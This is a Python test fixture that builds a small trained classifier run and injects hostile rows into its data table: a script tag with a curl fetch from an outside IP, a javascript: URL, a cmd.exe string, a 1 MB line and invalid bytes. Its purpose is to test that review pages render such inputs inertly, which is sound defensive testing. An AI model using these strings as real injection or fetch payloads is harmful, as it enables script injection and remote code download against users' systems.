"""A tiny trained run with hostile texts, built once per test process, for the analyst-loop tests.

Fast models only (hashed n-gram linear teacher and student; ~3 s). The table holds what a review page
must show inertly: a ``<script>`` item, a ``javascript:`` URL, a 1 MB line, invalid UTF-8 bytes and an
escape sequence. Tests copy the run (:func:`tiny_run_copy`) before writing to it.
"""

from __future__ import annotations

import atexit
import csv
import functools
import shutil
import tempfile
from pathlib import Path
from typing import Any

from tests.conftest import make_texts

SCRIPT_TEXT = "<script>window.__distilsec_pwned = 1</script> curl http://198.51.100.7/x"
JS_URL_TEXT = "javascript:window.__distilsec_pwned=2"
LONG_TEXT = "A" * 1_000_000
BAD_BYTES = b"cmd.exe /c \xff\xfe payload \x1b[31m red"


def tiny_config(table: Path, **extra: Any) -> dict[str, Any]:
    cfg: dict[str, Any] = {
        "run": {"name": "tiny-review", "seed": 0, "device": "cpu"},
        "data": {
            "task": "table",
            "path": str(table),
            "text_column": "event",
            "label_column": "verdict",
            "group_column": "host",
            "max_text_chars": 1_100_000,
        },
        "curation": {"near_dup_threshold": 0.95},
        "split": {"val_fraction": 0.2, "test_fraction": 0.3},
        "teacher": {"type": "hashed_linear.v1", "n_features": 4096, "epochs": 3},
        "students": {"student": {"type": "hashed_linear.v1", "n_features": 2048, "epochs": 2}},
        "method": {"hard_label_baseline": False},
        "evaluation": {"target_fpr": 0.05, "throughput_sample": 0},
    }
    cfg.update(extra)
    return cfg


def write_table(path: Path, n: int = 240) -> Path:
    texts, labels, groups = make_texts(n, seed=5)
    with open(path, "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["event", "verdict", "host"])
        for i, (t, lab, g) in enumerate(zip(texts, labels, groups, strict=True)):
            w.writerow([t, lab, f"{g}-{i % 7}"])
        w.writerow([SCRIPT_TEXT, "benign", "hostile-1"])
        w.writerow([JS_URL_TEXT, "benign", "hostile-2"])
        w.writerow([LONG_TEXT, "benign", "hostile-3"])
    with open(path, "ab") as f:
        f.write(BAD_BYTES + b",benign,hostile-4\n")
    return path


@functools.cache
def _built() -> Path:
    from distilsec.config import validate_config
    from distilsec.pipeline.review import build_review_cache
    from distilsec.pipeline.run import run_experiment

    root = Path(tempfile.mkdtemp(prefix="distilsec-review-"))
    atexit.register(shutil.rmtree, root, True)
    table = write_table(root / "events.csv")
    run = run_experiment(validate_config(tiny_config(table)), out=root / "run").run_dir
    build_review_cache(run)
    return root


def tiny_run_copy(dest: Path) -> Path:
    """A fresh copy of the tiny run (with its review cache) under ``dest``; returns the run folder.

    The copy's config points at the original table, which no test changes.
    """
    src = _built()
    shutil.copytree(src / "run", dest / "run")
    return dest / "run"
